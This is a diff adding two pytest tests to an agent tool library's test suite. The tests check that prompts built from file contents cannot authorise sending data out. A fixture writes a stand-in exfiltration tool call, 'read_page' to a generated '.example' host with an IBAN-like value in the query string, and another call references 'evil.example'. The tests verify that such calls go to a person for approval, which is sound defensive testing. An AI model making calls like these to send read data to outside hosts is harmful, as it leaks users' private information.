@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import json
+import os
 import re
+import sys
 import threading
+import types
 from pathlib import Path
 from typing import Any
 
@@ -12,6 +15,7 @@ import pytest
 import yaml
 
 from nbtools import Workbench, aio, tool
+from nbtools.agent.own_words import typed_in
 from nbtools.approval_request import ApprovalRequest
 from nbtools.door import Door
 from nbtools.gate import AskFunction
@@ -181,6 +185,29 @@ def test_a_prompt_that_is_filled_with_what_a_node_read_is_private(
     bench.workflows.run("ask.yaml")
     # The file names the first host, what filled the prompt names none.
     assert [request.call.arguments["url"] for request in person.asked] == [SEND[1]["url"]]
+
+
+def test_a_prompt_that_is_built_from_a_file_is_no_word_of_its_person(bench: Workbench, person: Person) -> None:
+    host = f"x{os.getpid()}.example"  # which no code names
+    text, send = f"a\nIBAN1, see {host}\n", ("read_page", {"url": f"https://{host}/?d=IBAN1"})
+    play(bench, send, prompt=f"Explain this: {text}")
+    assert person.names == ["read_page"]
+    assert f"to {host}" in person.asked[0].reason
+    # What stands in the code that asks was typed, also around what is filled in; or the code says what was.
+    assert play(bench, SEND, prompt=f"Compare evil.example with this: {text}").calls[0].result.ok
+    assert play(bench, send, prompt=f"Look at {host}, {text}", words=f"Look at {host}").calls[0].result.ok
+    assert person.names == ["read_page"]
+
+
+def test_what_was_typed_is_known_in_a_cell_and_in_lines(monkeypatch: pytest.MonkeyPatch) -> None:
+    host, other = (f"{letter}{os.getpid()}.example" for letter in "xy")
+    cell = f'PROMPT = """\n    Read {host}\n      and count.\n"""'
+    shell = types.SimpleNamespace(user_ns={"In": ["", "%load_ext nbtools", cell]})
+    monkeypatch.setitem(sys.modules, "IPython", types.SimpleNamespace(get_ipython=lambda: shell))
+    words, label = typed_in(f"Read {host}\n  and count.")
+    assert (hosts_in(words), label) == (frozenset({host}), UNLABELLED)
+    words, label = typed_in(f"Read {other}\n  and count.")
+    assert (hosts_in(words), label) == (frozenset(), Label(private=True))
 
 
 def test_an_mcp_client_is_held_to_the_same(bench: Workbench, person: Person) -> None:
